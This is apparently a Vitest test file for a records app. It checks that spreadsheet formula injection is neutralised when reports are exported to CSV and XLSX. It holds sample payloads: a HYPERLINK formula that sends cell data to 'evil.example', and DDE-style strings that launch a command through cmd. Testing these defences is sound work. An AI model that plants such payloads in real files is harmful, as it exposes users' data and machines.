import ExcelJS from 'exceljs';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import type { Output } from '../../src-shared/contract/api';
import { quarterPeriod } from '../../src-shared/reports/period';
import { neutralizeFormula } from '../../src-shared/security/spreadsheet';
import { serialize } from '../../src-shared/sync/hlc';
import type { AppealRecord } from '../../src-shared/sync/records';
import { appealInput } from '../helpers/appeal-input';
import { ok, officialOf } from '../helpers/core-calls';
import { tempCore } from '../helpers/temp-core';

/** Point 10: a cell that a spreadsheet would run as a formula is exported as text. */
const core = tempCore(() => new Date('2026-04-20T09:00:00'));
afterAll(() => core.cleanup());

const EVIL = [
  '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
  '+7 (900) 000-00-00',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

describe('formula injection', () => {
  it('neutralises every text that starts a formula, and nothing else', () => {
    for (const text of EVIL) expect(neutralizeFormula(text)).toBe(`'${text}`);
    for (const text of ['Иванов', 'MIN01-2026-000001', '2026-01-10', '', ' =1']) {
      expect(neutralizeFormula(text)).toBe(text);
    }
  });

  it('exports a registration number that arrived by sync as text in CSV and XLSX', async () => {
    const official = officialOf(core);
    const local = ok<{ id: string }>(
      core.dispatch('appeals.create', {
        data: appealInput(official, { registeredAt: '2026-01-10T10:00' }),
      }),
    );
    // A card as another desk (or a forged push) could send it: any string as its number.
    const record = core.services.appeals.record(local.id)! as AppealRecord;
    const hlc = serialize({ millis: Date.parse('2026-01-11'), counter: 0, node: 'a'.repeat(16) });
    for (const [i, evil] of EVIL.slice(0, 4).entries()) {
      const id = randomUUID();
      await core.services.syncStore.applyPull(
        [
          {
            seq: i + 1,
            type: 'change',
            change: {
              id: randomUUID(),
              entity: 'appeal',
              entityId: id,
              hlc,
              fields: { ...record, id, regNumber: evil } as never,
            },
          },
        ],
        i + 1,
      );
    }
    const period = quarterPeriod(2026, 1);
    const exported = async (format: 'csv' | 'xlsx') => {
      const { jobId } = ok<{ jobId: string }>(
        core.dispatch('reports.export', { period, format, separator: ';' }),
      );
      for (;;) {
        const s = ok<Output<'reports.exportStatus'>>(
          core.dispatch('reports.exportStatus', { jobId }),
        );
        if (s.state === 'done') return s.path!;
        if (s.state !== 'running') throw new Error(JSON.stringify(s));
        await new Promise((r) => setTimeout(r, 10));
      }
    };
    const csv = readFileSync(await exported('csv'), 'utf8');
    const firstCells = csv
      .split('\r\n')
      .slice(1)
      .filter(Boolean)
      .map((line) => line.replace(/^"/, '').split(';')[0]!);
    expect(firstCells).toHaveLength(5);
    for (const cell of firstCells) expect(cell).toMatch(/^(MIN|D|[A-Z0-9])|^'/);
    for (const cell of firstCells) expect(cell).not.toMatch(/^[=+\-@]/);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(await exported('xlsx'));
    const raw = wb.getWorksheet('Обращения (данные)')!;
    const numbers: string[] = [];
    raw.eachRow((row, n) => {
      if (n > 1) numbers.push(String(row.getCell(1).value));
    });
    expect(numbers).toHaveLength(5);
    for (const text of EVIL.slice(0, 4)) expect(numbers).toContain(`'${text}`);
  });
});
